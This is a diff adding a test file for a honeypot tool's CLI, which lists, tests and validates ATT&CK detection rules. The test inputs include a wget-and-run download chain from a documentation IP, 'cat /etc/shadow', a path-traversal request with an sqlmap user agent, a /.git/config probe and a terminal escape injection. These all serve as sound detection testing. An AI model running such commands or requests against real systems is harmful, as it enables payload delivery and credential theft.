@@ -1,0 +1,177 @@
+// `decnet rules list|test|check` as real processes over the shipped pack and operator directories.
+import assert from 'node:assert/strict'
+import {mkdtempSync, rmSync, writeFileSync} from 'node:fs'
+import {tmpdir} from 'node:os'
+import {join} from 'node:path'
+import {describe, it, type TestContext} from 'node:test'
+
+import {ATTACK_CATALOG_ENV} from '../../src/ttp/attack-catalog.js'
+import {RULES_DIR_ENV} from '../../src/ttp/rule-loader.js'
+import {dataDirEnv} from '../helpers/decnet-cli.js'
+import {runCli} from '../helpers/run-cli.js'
+
+interface Run {
+  code: number
+  stdout: string
+  stderr: string
+}
+
+function tempDir(t: TestContext): string {
+  const dir = mkdtempSync(join(tmpdir(), 'decnet-rules-cli-'))
+  t.after(() => rmSync(dir, {force: true, recursive: true}))
+  return dir
+}
+
+function rule(overrides: Record<string, unknown> = {}): Record<string, unknown> {
+  return {
+    confidence: 0.7,
+    description: 'Our bait tool being run',
+    emits: [{subTechnique: 'T1059.004', tactic: 'TA0002', technique: 'T1059'}],
+    examples: {match: ['acme-backup --all'], noMatch: ['echo acme-backup']},
+    field: 'command',
+    id: 'local.acme-backup',
+    pattern: '{{cmd}}acme-backup{{end}}',
+    version: 1,
+    ...overrides,
+  }
+}
+
+function rulesDir(t: TestContext, rules: unknown[]): string {
+  const dir = tempDir(t)
+  writeFileSync(join(dir, 'local.json'), JSON.stringify(rules))
+  return dir
+}
+
+async function decnet(t: TestContext, args: string[], input?: string): Promise<Run> {
+  const env = {...dataDirEnv(tempDir(t)), [ATTACK_CATALOG_ENV]: '', [RULES_DIR_ENV]: ''}
+  const run = (await runCli(args, {env, input})) as Run
+  return {...run, stderr: run.stderr.replaceAll(/\s*\n ›\s+/g, ' ')}
+}
+
+describe('decnet rules list', () => {
+  it('lists every shipped rule with its version, input kind, techniques, state and origin', async (t) => {
+    const run = await decnet(t, ['rules', 'list', '--json'])
+    assert.equal(run.code, 0, run.stderr)
+    const rules = JSON.parse(run.stdout) as Array<Record<string, unknown>>
+    assert.ok(rules.length >= 50)
+    const info = rules.find((candidate) => candidate.id === 'discovery.system-info')!
+    assert.deepEqual(
+      {field: info.field, origin: info.origin, state: info.state, techniques: info.techniques, version: info.version},
+      {field: 'command', origin: 'built-in', state: 'active', techniques: ['T1082'], version: 1},
+    )
+    const text = await decnet(t, ['rules', 'list'])
+    assert.match(text.stdout, /^RULE +VERSION +INPUT +TECHNIQUES +STATE +ORIGIN\n/)
+    assert.match(text.stdout, /\ncredential-access\.passwd-file +1 +command +T1087\.001,T1003\.008 +active +built-in\n/)
+  })
+
+  it("shows an operator's rules as user rules, and what their overrides do to the shipped ones", async (t) => {
+    const dir = rulesDir(t, [
+      rule(),
+      rule({disabled: true, id: 'discovery.owner-user', version: 2}),
+      rule({id: 'discovery.system-info', version: 5}),
+    ])
+    const run = await decnet(t, ['rules', 'list', '--rules-dir', dir, '--json'])
+    assert.equal(run.code, 0, run.stderr)
+    const states = (JSON.parse(run.stdout) as Array<{id: string; origin: string; state: string; version: number}>)
+      .filter((candidate) => ['discovery.owner-user', 'discovery.system-info', 'local.acme-backup'].includes(candidate.id))
+      .map((candidate) => `${candidate.id} v${candidate.version} ${candidate.origin} ${candidate.state}`)
+      .sort()
+    assert.deepEqual(states, [
+      'discovery.owner-user v1 built-in overridden',
+      'discovery.owner-user v2 user disabled',
+      'discovery.system-info v1 built-in overridden',
+      'discovery.system-info v5 user active',
+      'local.acme-backup v1 user active',
+    ])
+  })
+})
+
+describe('decnet rules test', () => {
+  it('says which rules fire on a command, with technique names and evidence', async (t) => {
+    const run = await decnet(t, ['rules', 'test', 'cd /tmp; wget http://203.0.113.9/x.sh; sh x.sh'])
+    assert.equal(run.code, 0, run.stderr)
+    assert.match(run.stdout, /^command-and-control\.ingress-tool-transfer \(v1, command\): wget http:\/\/203\.0\.113\.9\/x\.sh\n {2}T1105 +Ingress Tool Transfer {2}\[TA0011 Command and Control, confidence 0\.8\]\n/m)
+    assert.match(run.stdout, /^execution\.unix-shell \(v1, command\): sh x\.sh$/m)
+    const none = await decnet(t, ['rules', 'test', 'vim notes.txt'])
+    assert.match(none.stdout, /^no rule fires \(ATT&CK 18\.1\)$/m)
+  })
+
+  it('reads a whole DECNET log line as the worker does, from an argument or standard input', async (t) => {
+    const line = '<134>1 2026-11-26T13:32:51Z decky-01 ssh - command [relay@55555 src_ip="203.0.113.7" command="cat /etc/shadow"]'
+    for (const args of [['rules', 'test', line, '--json'], ['rules', 'test', '-', '--json']]) {
+      const run = await decnet(t, args, `${line}\n`)
+      assert.equal(run.code, 0, run.stderr)
+      const result = JSON.parse(run.stdout)
+      assert.equal(result.input, 'log line')
+      assert.equal(result.command, 'cat /etc/shadow')
+      assert.deepEqual(result.hits.map((hit: {rule: string; techniques: Array<{id: string; name: string; url: string}>}) => [hit.rule, hit.techniques[0].id, hit.techniques[0].name, hit.techniques[0].url]), [
+        ['credential-access.shadow-file', 'T1003.008', 'OS Credential Dumping: /etc/passwd and /etc/shadow', 'https://attack.mitre.org/techniques/T1003/008'],
+      ])
+    }
+
+    const login = await decnet(t, ['rules', 'test', '<38>1 2026-11-26T13:32:51Z decky-01 ssh - login_failed [relay@55555 src_ip="203.0.113.7" user="root"]'])
+    assert.match(login.stdout, /^log line \(login_failed\): no command or HTTP request in it/)
+    const broken = await decnet(t, ['rules', 'test', '<134>1 not-a-time decky-01 ssh - command'])
+    assert.equal(broken.code, 2)
+    assert.match(broken.stderr, /looks like a DECNET log line but does not parse/)
+  })
+
+  it('reads an HTTP request line (with headers) and a DECNET request event', async (t) => {
+    const request = await decnet(t, ['rules', 'test', 'GET /cgi-bin/.%2e/.%2e/.%2e/bin/sh HTTP/1.1\nUser-Agent: sqlmap/1.7', '--json'])
+    assert.equal(request.code, 0, request.stderr)
+    const result = JSON.parse(request.stdout)
+    assert.equal(result.input, 'http request')
+    assert.equal(result.http, 'GET /cgi-bin/.%2e/.%2e/.%2e/bin/sh\nUser-Agent: sqlmap/1.7')
+    assert.deepEqual(result.hits.map((hit: {rule: string}) => hit.rule), ['initial-access.scanner-user-agent', 'initial-access.path-traversal'])
+    const line = '<134>1 2026-11-26T13:32:51Z web-01 http - request [relay@55555 method="GET" path="/.git/config" remote_addr="203.0.113.7" headers="{\\"User-Agent\\": \\"curl/8.5.0\\"}"]'
+    const logged = await decnet(t, ['rules', 'test', line])
+    assert.equal(logged.code, 0, logged.stderr)
+    assert.match(logged.stdout, /^log line \(request\): HTTP request GET \/\.git\/config\ncredential-access\.http-credential-files \(v1, http\): GET \/\.git\/config\n {2}T1552\.001 +Unsecured Credentials: Credentials In Files/)
+  })
+
+  it('escapes control bytes of the input it prints', async (t) => {
+    const run = await decnet(t, ['rules', 'test', '<134>1 2026-11-26T13:32:51Z decky-01 ssh - command [relay@55555 command="cat /etc/shadow\u001B[2J"]'])
+    assert.equal(run.code, 0, run.stderr)
+    assert.doesNotMatch(run.stdout, /\u001B/)
+  })
+})
+
+describe('decnet rules check', () => {
+  it('passes the shipped pack (exit 0)', async (t) => {
+    const run = await decnet(t, ['rules', 'check'])
+    assert.equal(run.code, 0, run.stderr)
+    assert.match(run.stdout, /^\d+ rules loaded \(ATT&CK 18\.1\): 0 refused, 0 warnings$/m)
+  })
+
+  it('names each rule a directory holds that would be refused, and why (exit 1)', async (t) => {
+    const dir = rulesDir(t, [
+      rule(),
+      rule({emits: [{subTechnique: null, tactic: 'TA0002', technique: 'T9999'}], id: 'local.unknown-technique'}),
+      rule({id: 'local.unsafe', pattern: '(a+)+$', examples: {match: ['aa'], noMatch: ['b']}}),
+      rule({id: 'local.bad-example', examples: {match: ['acme-backup'], noMatch: ['acme-backup -x']}}),
+      rule({id: 'local.no-examples', examples: undefined}),
+      rule({emits: [{subTechnique: null, tactic: 'TA0010', technique: 'T1002'}], id: 'local.revoked'}),
+    ])
+    const run = await decnet(t, ['rules', 'check', dir])
+    assert.equal(run.code, 1, run.stderr)
+    const file = join(dir, 'local.json')
+    assert.ok(run.stdout.includes(`error: ${file} (rule local.unknown-technique): emits T9999, which ATT&CK 18.1 does not know`), run.stdout)
+    assert.match(run.stdout, /\(rule local\.unsafe\): "pattern" is unsafe/)
+    assert.match(run.stdout, /\(rule local\.bad-example\): near-miss "acme-backup -x" should not match but does/)
+    assert.match(run.stdout, /\(rule local\.no-examples\): "examples" must be an object/)
+    assert.match(run.stdout, /warning: .*\(rule local\.revoked\): emits T1002 \(Data Compressed\), revoked in ATT&CK 18\.1 by T1560/)
+    assert.match(run.stdout, /: 4 refused, 1 warnings$/m)
+
+    const json = await decnet(t, ['rules', 'check', dir, '--json'])
+    assert.equal(json.code, 1)
+    const result = JSON.parse(json.stdout)
+    assert.deepEqual(result.errors.map((problem: {rule: string}) => problem.rule).sort(), ['local.bad-example', 'local.no-examples', 'local.unknown-technique', 'local.unsafe'])
+    assert.deepEqual(result.warnings.map((problem: {rule: string}) => problem.rule), ['local.revoked'])
+  })
+
+  it('refuses a directory it cannot read', async (t) => {
+    const run = await decnet(t, ['rules', 'check', join(tempDir(t), 'absent')])
+    assert.equal(run.code, 1)
+    assert.match(run.stdout, /absent: rules directory cannot be read: ENOENT/)
+  })
+})
